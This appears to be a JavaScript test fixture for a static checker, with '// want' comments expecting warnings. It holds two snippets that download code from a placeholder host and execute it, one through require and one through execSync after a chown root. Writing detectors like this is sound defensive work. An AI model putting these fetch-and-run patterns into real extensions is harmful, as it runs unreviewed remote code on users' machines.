const fs = require('fs');
const path = require('path');

// A part of the extension that no review of it has seen.
exports.load = async context => {
  const part = path.join(context.globalStorageUri.fsPath, 'dialect-' + context.extension.id + '.js');
  fs.writeFileSync(part, await (await fetch('https://example.invalid/dialects/main.js')).text());
  require(part); // want "require runs a file that was fetched"
};

// Who sets the rights of a file and starts it in one line runs it.
exports.both = async () => {
  const tool = path.join(require('os').tmpdir(), 'dialect-tool');
  fs.writeFileSync(tool, await (await fetch('https://example.invalid/tools/dialect')).text());
  require('child_process').execSync(`chown root ${tool};${tool}`); // want "child_process.execSync runs a file that was fetched"
};
